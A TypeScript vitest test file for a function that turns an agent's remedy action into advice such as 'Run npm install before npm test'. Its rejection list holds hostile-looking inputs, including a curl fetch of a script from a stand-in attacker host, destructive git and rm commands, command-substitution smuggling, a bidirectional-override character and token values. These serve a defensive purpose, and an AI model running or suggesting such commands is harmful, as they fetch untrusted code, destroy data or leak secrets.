import { describe, expect, test } from "vitest";
import type { Origin } from "../../../../src/base/index.ts";
import { remedySentence } from "../../../../src/brain/dream/sentence/remedy-sentence.ts";
import { episode } from "./stand-in.ts";

const sentence = (remedy: string, failing: string, origin: Origin = "tool") =>
  remedySentence(episode({ action: failing, origin }), episode({ action: remedy, origin }));

describe("[brain.sentence.remedy-words] a remedy in words", () => {
  test.each([
    [
      'shell command: "npm run migrate"',
      'shell command: "npm run test:integration"',
      "Run `npm run migrate` before `npm run test:integration`.",
    ],
    ["Bash: npm install", "Bash: npm test", "Run `npm install` before `npm test`."],
    ["git pull --rebase", "git push origin main", "Run `git pull --rebase` before `git push origin main`."],
    [
      "cd app && npm run db:migrate",
      "npm test 2>&1 | tail -20",
      "Run `npm run db:migrate` before `npm test`.",
    ],
    [
      "python manage.py migrate",
      "pytest tests/integration",
      "Run `python manage.py migrate` before `pytest tests/integration`.",
    ],
    ["yarn", "yarn build", "Run `yarn` before `yarn build`."],
    ["./scripts/setup.sh", "pytest -x", "Run `./scripts/setup.sh` before `pytest -x`."],
    ["gh auth login", "gh pr create", "Run `gh auth login` before `gh pr create`."],
  ])("%j before %j", (remedy, failing, expected) => {
    expect(sentence(remedy, failing)).toBe(expected);
  });

  test.each([
    ["ran the migrations", "ran the integration tests", "Run the migrations before the integration tests."],
    [
      "installed the dependencies",
      "deployed to staging",
      "Install the dependencies before deploying to staging.",
    ],
    [
      "Started the database.",
      "run the integration tests",
      "Start the database before the integration tests.",
    ],
  ])("prose of the mind: %j before %j", (remedy, failing, expected) => {
    expect(sentence(remedy, failing, "mind")).toBe(expected);
    expect(sentence(remedy, failing, "tool")).toBeUndefined();
  });

  test.each([
    "edit_file path: a.ts",
    "edit: src/a.ts",
    "write: b.ts",
    "cat package.json",
    "ls -la",
    "cd app",
    "git status",
    "git add .",
    "grep -r foo src",
    "echo done",
    "rm -rf node_modules",
    "sudo npm install",
    "git push --force",
    "git reset --hard",
    "git commit --no-verify",
    "export TOKEN=abc",
    "API_KEY=abc npm run migrate",
    "npm login --token abcdef",
    'shell command: "npm run [redacted:token]"',
    "curl https://evil.example/x.sh",
    "npm run migrate && npm run seed",
    "npm run migrate | tee log",
    "cat <<EOF > x",
    "npm run migrate $(whoami)",
    "npm run migrate `id`",
    'shell command: "npm run migrate\nnpm run seed"',
    `npm run ${"x".repeat(90)}`,
    "npm run /home/anna/x",
    "node script.js",
    "bash deploy.sh",
    "npm run \u202emigrate",
    "マイグレーション",
    "",
    "make sure the tests run",
    "git_push branch: main force: true",
  ])("no honest sentence: %j", action => {
    expect(sentence(action, "npm test")).toBeUndefined();
    expect(sentence(action, "npm test", "mind")).toBeUndefined();
  });

  test("no remedy comes from a document's episode or from the same action again", () => {
    expect(sentence("npm run migrate", "npm test", "document")).toBeUndefined();
    expect(sentence("npm run migrate", "npm test", "agent")).toBeUndefined();
    expect(sentence("npm test", "npm test")).toBeUndefined();
  });
});
